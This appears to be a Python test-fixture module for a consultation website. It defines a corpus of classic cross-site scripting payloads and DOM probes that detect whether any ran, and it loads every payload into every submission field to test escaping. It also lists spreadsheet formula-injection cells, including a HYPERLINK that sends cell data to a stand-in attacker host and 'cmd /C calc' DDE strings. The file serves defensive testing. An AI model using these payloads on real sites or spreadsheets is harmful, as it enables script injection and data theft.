"""A corpus of cross-site scripting payloads, and the browser-side probes that tell whether one ran.

Every payload calls the global marker ``__xss("<its id>")`` (frames call ``top.__xss``), so that a
page that runs one is caught by name. The browser tests define ``window.__xss`` in an init script
(:data:`INIT_SCRIPT`) that records each call, and they also scan the DOM after each page load
(:data:`ACTIVE_CONTENT_JS`) for anything a payload could have turned into live content — inline event
handlers, ``javascript:`` addresses, injected scripts, frames, ``<base>``, ``<meta http-equiv>`` — since
some payloads (a ``javascript:`` link, an ``onfocus`` handler) only run when someone clicks or tabs.

``context`` is a minimal page in which the payload *is* live when pasted in raw (``{}`` marks the
spot): ``test_security_browser.test_the_corpus_is_live_when_not_escaped`` proves, payload by payload,
that the probes see it, so a green run on the real pages means something.

Written for this project (classic techniques, our own text); nothing is fetched at run time.
"""

from __future__ import annotations

from dataclasses import dataclass

MARKER = "__xss"


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    # A raw page in which the payload is live ("{}" is where it goes); None: only a text trap
    # (template syntax, a markdown link) that is harmless unless some code interprets it.
    context: str | None = "<div>{}</div>"
    # False when the text cannot be a stored answer (a NUL is refused): used in file names only.
    storable: bool = True


def _p(
    id_: str, text: str, context: str | None = "<div>{}</div>", storable: bool = True
) -> Payload:
    return Payload(id=id_, text=text.replace("ID", id_), context=context, storable=storable)


PAYLOADS: tuple[Payload, ...] = (
    # Script elements
    _p("script_tag", "<script>__xss('ID')</script>"),
    _p("script_mixed_case", "<ScRiPt>__xss('ID')</sCrIpT>"),
    _p("script_src_data", "<script src=\"data:text/javascript,__xss('ID')\"></script>"),
    _p(
        "script_breakout", "</script><script>__xss('ID')</script>", "<script>var s = '{}';</script>"
    ),
    _p(
        "json_breakout",
        "\"}</script><script>__xss('ID')</script>",
        '<script>var d = {{"a": "{}"}};</script>',
    ),
    # Event handlers
    _p("img_onerror", "<img src=x onerror=\"__xss('ID')\">"),
    _p("img_onerror_slashes", "<img/src/onerror=__xss('ID')>"),
    _p("img_mixed_case", "<IMG SRC=x OnErRoR=__xss('ID')>"),
    _p("svg_onload", "<svg onload=__xss('ID')>"),
    _p("svg_animate", "<svg><animate onbegin=__xss('ID') attributeName=x dur=1s>"),
    _p("body_onload", "<body onload=__xss('ID')>", "<html><head></head>{}</html>"),
    _p("details_ontoggle", "<details open ontoggle=__xss('ID')>"),
    _p("input_autofocus", "<input autofocus onfocus=__xss('ID')>"),
    _p("style_onload", "<style onload=__xss('ID')></style>"),
    # Addresses
    _p("a_javascript", "<a href=\"javascript:__xss('ID')\">read more</a>"),
    _p("javascript_url", "javascript:__xss('ID')", '<a href="{}">link</a>'),
    _p("javascript_url_obfuscated", "JaVa&#x09;ScRiPt:__xss('ID')", '<a href="{}">link</a>'),
    _p("data_uri_link", "<a href=\"data:text/html,<script>__xss('ID')</script>\">open</a>"),
    _p(
        "iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;top.__xss('ID')&lt;/script&gt;\"></iframe>"
    ),
    _p("iframe_javascript", "<iframe src=\"javascript:top.__xss('ID')\"></iframe>"),
    _p("object_data", "<object data=\"data:text/html,<script>top.__xss('ID')</script>\"></object>"),
    _p("form_action", "<form action=\"javascript:__xss('ID')\"><button>send</button></form>"),
    _p("math_xlink", "<math><a xlink:href=\"javascript:__xss('ID')\">x</a></math>"),
    _p("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:__xss(\'ID\')">'),
    _p("base_href", "<base href=\"javascript:__xss('ID')//\">"),
    # Breaking out of attributes (quotes, backticks, none) and of raw-text elements
    _p("attr_double_quote", "\" autofocus onfocus=\"__xss('ID')", '<input value="{}">'),
    _p("attr_single_quote", "' autofocus onfocus='__xss(`ID`)", "<input value='{}'>"),
    _p("attr_backtick", "` autofocus onfocus=__xss`ID` x=`", "<input value=`{}`>"),
    _p("attr_unquoted", "x autofocus onfocus=__xss('ID')", "<input value={}>"),
    _p("textarea_breakout", "</textarea><script>__xss('ID')</script>", "<textarea>{}</textarea>"),
    _p(
        "title_breakout",
        "</title><script>__xss('ID')</script>",
        "<html><head><title>{}</title></head></html>",
    ),
    _p(
        "style_breakout",
        "</style><script>__xss('ID')</script>",
        "<style>p {{ color: red }} {}</style>",
    ),
    _p("comment_breakout", "--><script>__xss('ID')</script><!--", "<!-- {} -->"),
    _p("comment_confusion", "<!--<img src=\"--><img src=x onerror=__xss('ID')//\">"),
    # CSS
    _p(
        "css_expression",
        "<div style=\"width: expression(__xss('ID')); background: url(javascript:__xss('ID'))\">x</div>",
    ),
    # Encodings and Unicode tricks
    _p("rtl_override", "\u202e<script>__xss('ID')</script>\u202d txt.exe"),
    _p("fullwidth_brackets", "\uff1cscript\uff1e__xss('ID')\uff1c/script\uff1e", None),
    _p("entity_encoded", "&lt;script&gt;__xss('ID')&lt;/script&gt;", None),
    _p("percent_encoded", "%3Cscript%3E__xss('ID')%3C%2Fscript%3E", None),
    _p(
        "null_byte_tag",
        "<scr\x00ipt>__xss('ID')</script><img src=x o\x00nerror=__xss('ID')>",
        storable=False,
    ),
    _p("null_byte_literal", "\\x00<script>__xss('ID')</script>"),
    # Template and markup injection (harmless unless something interprets them)
    _p("template_django", "{{ 7|add:7 }} {% now 'Y' %} {{7*7}} ID", None),
    _p("template_dollar", "${7*7} #{7*7} <%= 7*7 %> ${__xss('ID')}", "<script>`{}`</script>"),
    _p("template_angular", "{{constructor.constructor('__xss(\"ID\")')()}}", None),
    _p("markdown_link", "[read](javascript:__xss('ID')) ![x](x\" onerror=\"__xss('ID'))", None),
    # A polyglot for several contexts at once
    _p(
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss('ID') )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=__xss('ID')//>",
    ),
)

STORABLE = tuple(p for p in PAYLOADS if p.storable)

# Cells a spreadsheet would run as formulas if written raw.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("https://attacker.invalid/?"&A1,"Click for details")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def by_id(id_: str) -> Payload:
    return next(p for p in PAYLOADS if p.id == id_)


# ---------------------------------------------------------------------------------- browser probes

# Runs before any page script in every frame: records each call of the marker, by id.
INIT_SCRIPT = r"""(() => {
  const calls = [];
  const report = (id) => {
    const name = Array.isArray(id) ? id.join("") : String(id);
    calls.push(name);
    try { if (typeof window.__xss_report === "function") window.__xss_report(name, location.href); } catch (e) {}
    try { if (window.top !== window && typeof window.top.__xss === "function") window.top.__xss(name); } catch (e) {}
  };
  Object.defineProperty(window, "__xss", {value: report, writable: false, configurable: false});
  Object.defineProperty(window, "__xss_calls", {get: () => calls.slice(), configurable: false});
})();"""

# Everything live that a payload could have produced. The site's own pages have none of it: the
# Content-Security-Policy forbids inline scripts and handlers, and the site uses no frames.
ACTIVE_CONTENT_JS = r"""() => {
  const found = [];
  const brief = (el) => el.outerHTML.replace(/\s+/g, " ").slice(0, 200);
  const scheme = (value) => value.replace(/[\u0000-\u0020\u007f-\u009f]+/g, "").toLowerCase();
  const dangerous = (value) => /^(javascript|vbscript|livescript):/.test(scheme(value))
    || /^data:(?!image\/(png|gif|jpeg|webp|avif);)/.test(scheme(value));
  const urlAttributes = new Set(["href", "src", "action", "formaction", "data", "xlink:href", "background",
    "poster", "codebase", "dynsrc", "lowsrc", "ping", "srcset", "manifest", "icon", "cite", "longdesc"]);
  const scripts = [...document.scripts];
  for (const el of document.querySelectorAll("*")) {
    const tag = el.localName;
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      if (name.startsWith("on")) found.push(`inline handler ${name} on ${brief(el)}`);
      else if (name === "srcdoc") found.push(`srcdoc on ${brief(el)}`);
      else if (urlAttributes.has(name) && dangerous(value)) found.push(`${name}=${value.slice(0, 80)} on ${brief(el)}`);
      else if (name === "style" && /expression\s*\(|javascript:|__xss/i.test(value)) found.push(`style on ${brief(el)}`);
      else if (value.includes("__xss") && !["value", "title", "alt", "aria-label", "placeholder", "content"].includes(name)
               && !(urlAttributes.has(name) && !dangerous(value))) found.push(`${name} carries the marker on ${brief(el)}`);
    }
    if (["iframe", "frame", "frameset", "object", "embed", "applet", "portal"].includes(tag)) found.push(`<${tag}> ${brief(el)}`);
    if (tag === "base" && el.hasAttribute("href")) found.push(`<base> ${brief(el)}`);
    if (tag === "meta" && el.hasAttribute("http-equiv")) {
      const kind = el.getAttribute("http-equiv").toLowerCase();
      if (kind === "refresh" || kind === "set-cookie") found.push(`<meta http-equiv> ${brief(el)}`);
    }
    if (tag === "style" && /__xss|expression\s*\(|javascript:/i.test(el.textContent)) found.push(`<style> ${brief(el)}`);
  }
  for (const script of scripts) {
    if (!script.src && /__xss/.test(script.textContent)) found.push(`inline script ${brief(script)}`);
    if (script.src && dangerous(script.getAttribute("src"))) found.push(`script src ${brief(script)}`);
  }
  return found;
}"""


# ---------------------------------------------------------------------------------- the corpus as input

# The WSIS+20 questionnaire's free-text questions (the practice call uses the same questionnaire).
LONG_TEXT_KEYS = (
    "achievements_challenges",
    "alignment_2030",
    "emerging_trends",
    "beyond_2025",
    "action_lines_review",
)
SHORT_TEXT_KEYS = ("name", "organisation")
STAKEHOLDERS = (
    "government",
    "private_sector",
    "civil_society",
    "academia",
    "technical_community",
    "other",
)
COUNTRIES = ("SN", "JO", "BR", "FR", "CN", "RU", "MX", "IN", "KE", "DE")
LANGUAGES = ("en", "fr", "ar", "zh", "ru", "es")
# A valid address (a quoted local part) that is also markup: shown to staff and on the receipt.
PAYLOAD_EMAIL = "\"<svg/onload=__xss('email')>\"@example.org"


def corpus_records(submitted_at: str) -> list[tuple[int, dict]]:
    """Import lines (``submissions_import``'s ``records``) that put every payload into every free-text
    field and every file name, plus one line per spreadsheet formula.

    Line ``i`` has payload ``i`` as its name, ``i+1`` as its organisation and ``i+2`` as its external id;
    its first answer starts with payload ``i``; the other answers hold the whole corpus (so that one page
    shows every payload in every answer); its file is named after payload ``i`` (the last payload, which
    cannot be stored as text, names a second file of line 0).
    """
    texts = [p.text for p in STORABLE]
    n = len(texts)
    records: list[tuple[int, dict]] = []
    for i in range(n):
        rotated = texts[i:] + texts[:i]
        files = [p for j, p in enumerate(PAYLOADS) if j % n == i]
        records.append(
            (
                len(records) + 1,
                {
                    "external_id": f"xss-{i:02d} {rotated[2]}"[:200],
                    "submitted_at": submitted_at,
                    "source": "form",
                    "language": LANGUAGES[i % len(LANGUAGES)],
                    "consent": "publish_named",
                    "respondent": {
                        "name": rotated[0],
                        "email": PAYLOAD_EMAIL if i == 0 else f"corpus{i}@example.org",
                        "organisation": rotated[1],
                        "stakeholder_type": STAKEHOLDERS[i % len(STAKEHOLDERS)],
                        "country": COUNTRIES[i % len(COUNTRIES)],
                        "on_behalf_of_organisation": True,
                    },
                    "answers": {
                        "achievements_challenges": f"{rotated[0]}\n{rotated[1]}\n"
                        f"Write to corpus{i}@example.org or 12 rue de l'Église.",
                        "alignment_2030": "\n".join(rotated),
                        "emerging_trends": "\n\n".join(reversed(rotated)),
                        "beyond_2025": " ".join(rotated),
                        "action_lines_review": f"{FORMULAS[i % len(FORMULAS)].strip()} {rotated[3]}",
                    },
                    "attachments": [
                        {
                            "filename": f"{p.text}.txt",
                            "content_base64": _b64(f"Note {i} on {p.id}.\n"),
                        }
                        for p in files
                    ],
                },
            )
        )
    for k, formula in enumerate(FORMULAS):
        records.append(
            (
                len(records) + 1,
                {
                    "external_id": formula,
                    "submitted_at": submitted_at,
                    "source": "form",
                    "language": "en",
                    "consent": "publish_named",
                    "respondent": {
                        "name": formula,
                        "email": f"formula{k}@example.org",
                        "organisation": formula,
                        "stakeholder_type": "other",
                        "country": "CH",
                    },
                    "answers": {key: formula for key in LONG_TEXT_KEYS},
                },
            )
        )
    return records


def _b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def import_and_publish(call, approver, submitted_at: str) -> list:
    """Load :func:`corpus_records` through the bulk import and publish every line; the submissions,
    in line order (the payload lines first, then the formula lines)."""
    from consulta.publication.models import Contribution
    from consulta.submissions.bulk import submissions_import
    from consulta.submissions.models import Submission

    result = submissions_import(call=call, records=corpus_records(submitted_at))
    in_line_order = Submission.objects.filter(reference__in=result.references).order_by("pk")
    submissions = list(in_line_order)
    for submission in submissions:
        publish(submission, approver)
    published = Contribution.objects.filter(
        submission__in=submissions, state=Contribution.State.PUBLISHED
    )
    assert published.count() == len(submissions)
    return submissions


def publish(submission, approver):
    """Approve the submission's current version, whether or not it already waits in the queue.

    ``contribution_sync(approved_by=...)`` publishes a version it has not seen yet; one that the
    import's own sync already queued is approved from the queue.
    """
    from consulta.publication.models import Contribution
    from consulta.publication.services import contribution_approve, contribution_sync

    contribution = contribution_sync(submission=submission, approved_by=approver)
    if contribution.state != Contribution.State.PUBLISHED:
        contribution = contribution_approve(actor=approver, contribution=contribution)
    return contribution
